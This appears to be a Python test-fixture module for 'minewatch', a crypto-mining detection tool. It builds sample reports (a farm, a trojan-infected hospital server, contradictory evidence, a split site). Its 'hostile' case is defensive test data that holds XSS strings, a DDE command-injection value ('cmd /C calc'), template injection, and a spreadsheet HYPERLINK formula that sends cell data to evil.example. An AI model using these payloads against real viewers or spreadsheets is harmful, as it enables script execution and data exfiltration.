"""Reports made up for the tests: a farm, a victim, a contradiction, a split site, and a hostile one."""

import json
from datetime import UTC, date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import numpy as np
import pyarrow as pa

from minewatch.runs.report import Counts, Curve, ReportData
from minewatch.runs.report.data import Timing
from minewatch.schema.analysis_tables import EVIDENCE, FINDINGS
from minewatch.schema.network_tables import FLOWS
from minewatch.schema.periods import Period, parse_period

ZONE = ZoneInfo("Asia/Shanghai")
PERIOD = parse_period("2026-W20", ZONE)
FIRST = date(2026, 1, 26)
DAYS = 112
RUN = "R-5b0a9d0e6f7c41c2a3e8"
HOSTILE_NAME = '<script>alert("x")</script> & =HYPERLINK("http://evil.example","x") \u202egnp.exe'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def local(day: date, hour: float = 0) -> datetime:
    midnight = datetime(day.year, day.month, day.day, tzinfo=ZONE)
    return (midnight + timedelta(hours=hour)).astimezone(UTC)


def curve(seed: int, base_kw: float, block_kw: float, onset_day: int, nights_only: bool = False) -> Curve:
    """Working-hours load with a weekly rhythm and noise, and a block from ``onset_day`` on."""
    rng = np.random.default_rng(seed)
    hours = np.arange(96) / 4
    work = 0.18 + 0.82 / (1 + np.exp(-(hours - 8) * 2.2)) / (1 + np.exp((hours - 18) * 1.7))
    week = np.array([(FIRST + timedelta(days=d)).weekday() < 5 for d in range(DAYS)])
    holiday = (np.arange(DAYS) >= 20) & (np.arange(DAYS) < 29)
    busy = np.where(week & ~holiday, 1.0, 0.3)[:, None]
    season = 1 + 0.12 * np.cos(np.arange(DAYS) / DAYS * 3)[:, None]
    load = base_kw * season * busy * work[None, :] * rng.normal(1, 0.09, (DAYS, 96)).clip(0.4)
    on = (np.arange(DAYS)[:, None] >= onset_day) & (~np.array(nights_only) | (hours < 7) | (hours >= 22))[
        None, :
    ]
    ramp = np.clip((np.arange(DAYS) - onset_day + 1) / 5, 0.35, 1)[:, None]
    kw = load + on * block_kw * ramp * rng.normal(1, 0.012, (DAYS, 96))
    kw[61, 30:60] = 0.2 * kw[61, 30:60]
    kw[40, :] = np.nan
    kw[75, 20:44] = np.nan
    return Curve(local(FIRST), 15, kw.ravel())


def reason(code: str, en: str, zh: str, **values: Any) -> dict[str, str]:
    text = json.dumps(values, ensure_ascii=False, sort_keys=True)
    return {"code": code, "values": text, "text_en": en, "text_zh": zh}


def row(schema: pa.Schema, **values: Any) -> dict[str, Any]:
    """A row with nulls, or empty lists where a list is required, in all columns not given."""
    empty = {f.name: [] if pa.types.is_list(f.type) and not f.nullable else None for f in schema}
    assert values.keys() <= empty.keys()
    return {**empty, **values}


def power(value: float, spread: float) -> dict[str, float]:
    return {"power_kw": value, "power_kw_low": value * (1 - spread), "power_kw_high": value * (1 + spread)}


def energy(value: float, spread: float) -> dict[str, float]:
    return {
        "energy_kwh": value,
        "energy_kwh_low": value * (1 - spread),
        "energy_kwh_high": value * (1 + spread),
    }


def finding(number: int, **values: Any) -> dict[str, Any]:
    base = {
        "finding_id": f"F-{number:020x}",
        "run_id": RUN,
        "site_id": f"S-{number:020x}",
        "period_start_at": PERIOD.start_at,
        "period_end_at": PERIOD.end_at,
        "posterior": 0.97,
        "q_value": 0.012 * number,
        "kind": "active",
        "site_class": "operating",
    }
    return row(FINDINGS, **{**base, **values})


def evidence(name: str, kind: str, subject: str, **values: Any) -> dict[str, Any]:
    base = {
        "evidence_id": f"E-{name}",
        "detector": "customer_load" if kind == "usage_point" else "pool_flows",
        "detector_version": "1",
        "subject_kind": kind,
        "subject_id": subject,
        "period_start_at": PERIOD.start_at,
        "period_end_at": PERIOD.end_at,
        "reasons": [reason("sample", "a reason", "依据")],
        "inputs": [
            {"table": "interval_readings" if kind == "usage_point" else "flows", "version": 3, "rows": DAYS},
            {"table": "usage_points", "version": 1, "rows": 1},
        ],
    }
    return row(EVIDENCE, **{**base, **values})


def block_reasons(kw: float, floor: float) -> list[dict[str, str]]:
    return [
        reason(
            "constant_block",
            f"A constant load of {kw:.0f} kW lies under the whole curve, on 99% of the time",
            f"整条曲线下有{kw:.0f} kW恒定负荷，99%的时间在运行",
            power_kw=kw,
            on_share=0.99,
        ),
        reason(
            "night_as_day",
            f"Nights fall no lower than {floor:.0f} kW; before the onset they fell to 12 kW",
            f"夜间不低于{floor:.0f} kW；起始前夜间降至12 kW",
            floor_kw=floor,
            floor_before_kw=12,
        ),
        reason(
            "no_weather",
            "The load does not follow the temperature (correlation 0.03)",
            "负荷不随气温变化（相关系数0.03）",
            correlation=0.03,
        ),
    ]


def stratum_lines(worker: str, agent: str) -> list[str]:
    return [
        json.dumps({"id": 1, "method": "mining.subscribe", "params": [agent]}),
        json.dumps({"id": 2, "method": "mining.authorize", "params": [worker, "x"]}),
        '{"id":null,"method":"mining.set_difficulty","params":[65536]}',
        '{"id":null,"method":"mining.notify","params":["6a1f","4d16b6f8…","01000000…",[],"20000000","1705ae3a",true]}',
        json.dumps(
            {
                "id": 7,
                "method": "mining.submit",
                "params": [worker, "6a1f", "0000000a", "662f1c3e", "b2957c02"],
            }
        ),
    ]


def flow(number: int, src: str, dst: str, **values: Any) -> dict[str, Any]:
    (src_ip, _, src_port), (dst_ip, _, dst_port) = src.rpartition(":"), dst.rpartition(":")
    start = PERIOD.start_at + timedelta(hours=5 * number, minutes=7)
    base = {
        "flow_id": f"W-{number:020x}",
        "capture": "tap-county-3.pcap",
        "src_ip": src_ip,
        "src_port": int(src_port),
        "dst_ip": dst_ip,
        "dst_port": int(dst_port),
        "protocol": 6,
        "first_at": start,
        "last_at": start + timedelta(hours=31, minutes=12),
        "src_bytes": 1_840_221,
        "dst_bytes": 3_120_404,
    }
    return row(FLOWS, **{**base, **values})


def counted_worker(name: str, shares: int) -> dict[str, Any]:
    """A worker with shares of 65,536 difficulty, of which three were late."""
    told = {"submitted": shares, "accepted": shares - 3, "rejected": 3, "stale": 3}
    return {"worker": name, **told, "expected_hashes": (shares - 3) * 65536 * 2.0**32}


def pool_flow(number: int, src: str, worker: str) -> dict[str, Any]:
    agent = "bmminer/2.0.0/Antminer S19 Pro"
    return flow(
        number,
        src,
        "203.0.113.77:3333",
        dialect="stratum_v1",
        coin="BTC",
        algorithm="SHA-256",
        agent=agent,
        pool="pool.example",
        accounts=["hzyunsuan"],
        workers=[counted_worker(f"{worker}.{i:03d}", 4021 - i) for i in range(1, 8)],
        shares_first_at=local(date(2026, 5, 11), 6),
        shares_last_at=local(date(2026, 5, 12), 12),
        shares_submitted=27_912,
        shares_accepted=27_850,
        names=[{"kind": "dns", "name": "btc.pool.example"}],
        evidence_lines=stratum_lines(f"{worker}.001", agent),
    )


def link(
    from_: tuple[str, str], to: tuple[str, str], probability: float, basis: dict[str, str]
) -> dict[str, Any]:
    return {
        "from_kind": from_[0],
        "from_id": from_[1],
        "to_kind": to[0],
        "to_id": to[1],
        "probability": probability,
        "basis": basis,
    }


def _farm() -> tuple[dict[str, Any], list[dict[str, Any]], list[dict[str, Any]], dict[str, Curve]]:
    usage, ends = "3301880041275", ("198.51.100.24:51822", "198.51.100.24:40217")
    address = "云杉市青岭县工业园区兴业路18号3幢"
    onset = local(FIRST + timedelta(days=47), 6.25)
    holder = "云杉云算科技有限公司, 青岭县兴业路18号"
    outer, inner = "198.51.100.0/26:1024-65535", "10.12.3.41:0-65535"
    leased = reason(
        "lease_layer",
        "Address, port and time lie in a lease of Yunling Telecom",
        "地址、端口、时间落在云岭电信租用记录内",
    )
    links = [
        *(link(("endpoint", name), ("lease", outer), 0.99, leased) for name in ends),
        link(
            ("lease", outer),
            ("lease", inner),
            0.99,
            reason(
                "lease_translation", "Translated to the inner address at that time", "当时转换为该内网地址"
            ),
        ),
        link(
            ("lease", inner),
            ("holder", holder),
            1.0,
            reason("lease_holder", "Named in the lease", "租用记录的用户"),
        ),
        link(
            ("holder", holder),
            ("usage_point", usage),
            0.93,
            reason("records_name_door", "Same name, same door", "名称相同；同一门址"),
        ),
        link(
            ("usage_point", usage),
            ("address", address),
            1.0,
            reason("same_door", "Its address", "其用电地址"),
        ),
        link(
            ("usage_point", "3301880041276"),
            ("address", address),
            0.06,
            reason("address_near", "Same road and number, other building", "同路同号，幢号不同"),
        ),
        link(
            ("enterprise", "91330199MA2B1C3D4E"),
            ("usage_point", usage),
            0.97,
            reason("customer_code", "The account carries its credit code", "户号登记的信用代码即该企业代码"),
        ),
    ]
    made = finding(
        1,
        address=address,
        region_code="330199",
        usage_points=[{"name": usage, "probability": 0.93}, {"name": "3301880041276", "probability": 0.06}],
        endpoints=[{"name": name, "probability": 0.99} for name in ends],
        enterprises=[{"name": "Q-91330199MA2", "probability": 0.97}],
        enterprise_name="云杉云算科技有限公司",
        links=links,
        posterior=0.9996,
        q_value=0.0008,
        **power(312, 0.035),
        **energy(52_120, 0.04),
        hash_rate=10.3e15,
        algorithm="SHA-256",
        coin="BTC",
        onset_at=onset,
        reasons=[
            *block_reasons(312, 318),
            reason(
                "meter_wire_agree",
                "Meter (318 kW) and traffic (296 kW) give the same power within their intervals",
                "电表（318 kW）与流量（296 kW）所得功率在区间内一致",
                meter_kw=318,
                wire_kw=296,
            ),
        ],
        evidence_ids=["E-farm-meter", "E-farm-wire-1", "E-farm-wire-2"],
    )
    rows = [
        evidence(
            "farm-meter",
            "usage_point",
            usage,
            log10_lr=4.2,
            best_alternative="data_centre",
            alternatives=[
                {"name": "data_centre", "probability": 0.61},
                {"name": "server_room", "probability": 0.27},
                {"name": "cold_store", "probability": 0.09},
                {"name": "telecom", "probability": 0.03},
            ],
            **power(318, 0.045),
            onset_at=onset,
            on_share=0.99,
            reasons=block_reasons(318, 322),
        ),
    ]
    flows = []
    for number, end in enumerate(ends, start=1):
        item = pool_flow(number, end, "hzyunsuan.rack" + "AB"[number - 1])
        flows.append(item)
        share = (0.55, 0.45)[number - 1]
        rows.append(
            evidence(
                f"farm-wire-{number}",
                "endpoint",
                end,
                log10_lr=6.8,
                best_alternative="protocol_test",
                **power(296 * share, 0.3),
                hash_rate=10.3e15 * share,
                hash_rate_low=9.8e15 * share,
                hash_rate_high=10.8e15 * share,
                algorithm="SHA-256",
                coin="BTC",
                onset_at=item["first_at"],
                ended_at=item["last_at"],
                reasons=[
                    reason(
                        "stratum_v1",
                        "Speaks Stratum v1 with pool.example: subscribe, authorize, 27,850 accepted shares",
                        "与pool.example以Stratum v1通信：订阅、认证，27,850个份额被接受",
                        accepted=27850,
                    )
                ],
            )
        )
    return made, rows, flows, {usage: curve(1, 96, 318, 47)}


def _victim() -> tuple[dict[str, Any], list[dict[str, Any]], list[dict[str, Any]], dict[str, Curve]]:
    end = "192.0.2.140:49731"
    item = flow(
        3,
        end,
        "203.0.113.9:14444",
        dialect="monero_login",
        coin="XMR",
        algorithm="RandomX",
        agent="XMRig/6.21.0",
        pool="203.0.113.9",
        accounts=[
            "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
        ],
        workers=[{"worker": "srv-07", "submitted": 610}],
        shares_submitted=610,
        shares_accepted=604,
    )
    made = finding(
        2,
        enterprise_name="青岭县第二人民医院",
        endpoints=[{"name": end, "probability": 0.98}],
        posterior=0.991,
        q_value=0.006,
        hash_rate=41e3,
        algorithm="RandomX",
        coin="XMR",
        kind="passive_victim",
        victim_probability=0.97,
        machines=1,
        kind_reasons=[
            reason(
                "kind_account_elsewhere",
                "the same account collects at other sites of other owners (3): a campaign",
                "同一账户还在另外3处互不相关的场所收益：疑为木马团伙",
                sites=3,
                ratio=12.0,
            )
        ],
        onset_at=item["first_at"],
        ended_at=item["last_at"],
        reasons=[
            reason(
                "monero_login",
                "One server logs in to a Monero pool with a known trojan's wallet",
                "一台服务器以已知木马钱包登录门罗币矿池",
            )
        ],
        links=[
            link(
                ("account", "A-1c0ffee0d15ea5e0aaaa"),
                ("site", f"S-{40:020x}"),
                0.99,
                reason("account_elsewhere", "One beneficiary, not one place", "受益人相同，并非同一地点"),
            ),
            link(
                ("endpoint", end),
                ("account", "A-1c0ffee0d15ea5e0aaaa"),
                1.0,
                reason("account_used", "Shares are credited to it", "份额记入该账户"),
            ),
            link(
                ("endpoint", end),
                ("lease", "192.0.2.128/27"),
                0.98,
                reason("lease_match", "Static lease", "固定IP租用"),
            ),
        ],
        evidence_ids=["E-victim"],
    )
    rows = [
        evidence(
            "victim",
            "endpoint",
            end,
            log10_lr=5.1,
            best_alternative="protocol_test",
            hash_rate=41e3,
            hash_rate_low=38e3,
            hash_rate_high=44e3,
            algorithm="RandomX",
            coin="XMR",
            onset_at=item["first_at"],
            ended_at=item["last_at"],
        )
    ]
    return made, rows, [item], {}


def _contradiction() -> tuple[dict[str, Any], list[dict[str, Any]], list[dict[str, Any]], dict[str, Curve]]:
    usage, end = "0000731900250018", "198.51.100.201:33012"
    item = pool_flow(4, end, "qlmine")
    onset = local(FIRST + timedelta(days=18), 20)
    made = finding(
        3,
        enterprise_name="青岭冷链物流有限公司",
        address="云杉市青岭县城南镇环城南路200号冷库",
        region_code="330199",
        usage_points=[{"name": usage, "probability": 0.71}],
        endpoints=[{"name": end, "probability": 0.64}],
        posterior=0.83,
        q_value=0.031,
        power_kw=402,
        power_kw_low=290,
        power_kw_high=530,
        **energy(58_000, 0.3),
        hash_rate=13.6e15,
        algorithm="SHA-256",
        coin="BTC",
        onset_at=onset,
        contradictions=[
            reason(
                "wire_above_meter",
                "The meter shows 44 kW (38–50), the traffic 402 kW (290–530): one farm cannot be both",
                "电表显示44 kW(38–50)，流量显示402 kW(290–530)：不可能为同一矿场",
                meter_kw=44,
                wire_kw=402,
                z=4.1,
            )
        ],
        reasons=block_reasons(44, 41)[:1],
        evidence_ids=["E-cold-meter", "E-cold-wire"],
    )
    rows = [
        evidence(
            "cold-meter",
            "usage_point",
            usage,
            log10_lr=0.7,
            best_alternative="cold_store",
            alternatives=[
                {"name": "cold_store", "probability": 0.88},
                {"name": "server_room", "probability": 0.12},
            ],
            power_kw=44,
            power_kw_low=38,
            power_kw_high=50,
            onset_at=onset,
            on_share=0.86,
        ),
        evidence(
            "cold-wire",
            "endpoint",
            end,
            log10_lr=6.1,
            power_kw=402,
            power_kw_low=290,
            power_kw_high=530,
            hash_rate=13.6e15,
            algorithm="SHA-256",
            onset_at=item["first_at"],
            ended_at=item["last_at"],
        ),
    ]
    return made, rows, [item], {usage: curve(4, 40, 44, 18)}


def _split() -> tuple[dict[str, Any], list[dict[str, Any]], list[dict[str, Any]], dict[str, Curve]]:
    names = [f"33018802{i:05d}" for i in (114, 115, 116)]
    onset = local(FIRST + timedelta(days=60))
    made = finding(
        4,
        enterprise_name="王建国",
        address="云杉市青岭县石桥乡石桥村12号",
        usage_points=[{"name": name, "probability": 0.9 - 0.1 * i} for i, name in enumerate(names)],
        posterior=0.94,
        q_value=0.044,
        **power(58, 0.15),
        **energy(3_640, 0.2),
        onset_at=onset,
        site_class="under_construction",
        reasons=block_reasons(58, 60)[:2],
        evidence_ids=[f"E-split-{name}" for name in names],
    )
    rows = [
        evidence(
            f"split-{name}",
            "usage_point",
            name,
            log10_lr=1.9,
            best_alternative="electric_heating",
            **power(19.4, 0.12),
            onset_at=onset,
            on_share=0.37,
        )
        for name in names
    ]
    return made, rows, [], {name: curve(7 + i, 6, 19.4, 60, nights_only=True) for i, name in enumerate(names)}


def _hostile() -> tuple[dict[str, Any], list[dict[str, Any]], list[dict[str, Any]], dict[str, Curve]]:
    end, usage = "203.0.113.200:1", '"><img src=x onerror=alert(1)>'
    item = flow(
        5,
        end,
        "203.0.113.201:3333",
        dialect="stratum_v1",
        pool="javascript:alert(1)",
        coin="{{ 7*7 }}",
        agent="</script><script>alert(2)</script>",
        workers=[{"worker": "+cmd|' /C calc'!A0", "submitted": 1}],
        accounts=["-2+3"],
        names=[{"kind": "sni", "name": "'onmouseover='alert(3)"}],
        evidence_lines=['{"method":"</pre><script>alert(4)</script>"}', "\u202e\x00\x1b[31mred"],
    )
    made = finding(
        5,
        enterprise_name=HOSTILE_NAME + "长" * 220,
        address=FORMULA,
        region_code="@SUM(1+1)",
        usage_points=[{"name": usage, "probability": 0.5}],
        endpoints=[{"name": end, "probability": 0.5}],
        posterior=0.6,
        q_value=0.049,
        kind="never_heard_of",
        coin="{{ 7*7 }}",
        links=[link(("endpoint", end), ("<b>", "<i>" * 40), 0.4, reason("<u>", "<u>x</u>", "<u>甲</u>"))],
        reasons=[
            reason(
                "<b>code</b>", "<img src=x onerror=alert(5)>", "<svg onload=alert(6)>", a="</code><script>"
            )
        ],
        evidence_ids=["E-hostile", "E-not-there"],
    )
    rows = [
        evidence(
            "hostile",
            "endpoint",
            end,
            best_alternative="<b>who</b>",
            onset_at=item["first_at"],
            reasons=[reason("series_too_short", "<b>3</b> days", "<b>3</b>天")],
        )
    ]
    flat = Curve(local(FIRST), 60, np.zeros(24 * 3))
    return made, rows, [item], {usage: flat}


def _bare() -> tuple[dict[str, Any], list[dict[str, Any]], list[dict[str, Any]], dict[str, Curve]]:
    return finding(6, q_value=0.05, posterior=0.5), [], [], {}


def sample_report() -> ReportData:
    """A week with nine findings, from well proven to bare, then those of the grid."""
    from report_grid_samples import grid_parts, pairs, residuals

    grid = grid_parts()
    parts = [make() for make in (_farm, _victim, _contradiction, _split, _hostile, _bare)]
    curves = {name: curve_ for part in parts for name, curve_ in part[3].items()} | grid[2]
    refusals = {"series_too_short": 31, "series_too_gappy": 12, "series_all_zero": 9}
    return ReportData(
        findings=pa.Table.from_pylist([*(part[0] for part in parts), *grid[0]], schema=FINDINGS),
        evidence=pa.Table.from_pylist(
            [*(item for part in parts for item in part[1]), *grid[1]], schema=EVIDENCE
        ),
        curves=curves,
        flows=pa.Table.from_pylist([item for part in parts for item in part[2]], schema=FLOWS),
        manifest=manifest(),
        period=PERIOD,
        zone=ZONE,
        rate=0.05,
        counts=Counts(looked_at=1987, refused=52, listed=9, flows=48_213, refusals=refusals, best_q=0.0008),
        residuals=residuals(),
        pairs=pairs(),
        timings={(item["subject_id"], item["onset_at"]): timing() for item in parts[1][1]},
    )


def timing() -> Timing:
    """Thirty blocks, with most of which a message comes within a second, and a message now and then."""
    rng = np.random.default_rng(5)
    pushed = np.flatnonzero(rng.random(30) < 0.9)
    block = np.concatenate([pushed, np.repeat(np.arange(30), 2)])
    after_s = np.concatenate([rng.uniform(0.2, 0.9, pushed.size), rng.uniform(-30, 30, 60)])
    return Timing("XMR", "seen", (-30.0, 30.0), 30, block, after_s, int(pushed.size), 2.1, 0.5)


def empty_report(counts: Counts, period: Period = PERIOD) -> ReportData:
    """A run that listed nothing."""
    return ReportData(
        FINDINGS.empty_table(),
        EVIDENCE.empty_table(),
        {},
        FLOWS.empty_table(),
        {},
        period,
        ZONE,
        0.05,
        counts,
    )


def manifest() -> dict[str, Any]:
    return {
        "run_id": RUN,
        "verb": "scan",
        "engine": "local",
        "steps": ["customer_load@1", "pool_flows@1"],
        "inputs": [
            {"table": "interval_readings", "version": 3, "rows": 222_544},
            {"table": "flows", "version": 3, "rows": 48_213},
            {"table": "ip_leases", "version": 2, "rows": 311},
        ],
        "outputs": [],
        "parameters": json.dumps({"rate": 0.05, "period": "2026-W20", "zone": "Asia/Shanghai"}),
        "software": json.dumps({"minewatch": "0.1.0", "numpy": "2.2", "pyarrow": "26.0"}),
        "models": json.dumps({"meter": "9f2c…", "wire": "11ab…"}),
    }
